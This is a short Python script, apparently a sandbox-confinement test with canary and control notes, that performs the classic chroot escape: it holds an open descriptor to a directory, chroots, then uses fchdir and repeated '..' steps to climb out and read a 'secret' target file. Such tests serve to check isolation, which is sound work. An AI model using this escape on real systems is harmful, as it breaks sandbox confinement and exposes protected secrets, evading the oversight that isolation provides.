"""Change the root folder, by which paths mean something else, and climb out of it by a folder kept open.

canary: descriptor(got-through), secret
control: through as root
"""
import os
import time

os.mkdir("sub")
home = os.open(".", os.O_RDONLY)
for root in ("sub", "/", "."):
    try:
        os.chroot(root)
        proof = open("got-through", "w")
        os.fchdir(home)
        for _ in range(40):
            os.chdir("..")
        os.chroot(".")
        print(open(TARGETS["secret"]).read())
    except OSError as error:
        print(error)
time.sleep(0.3)
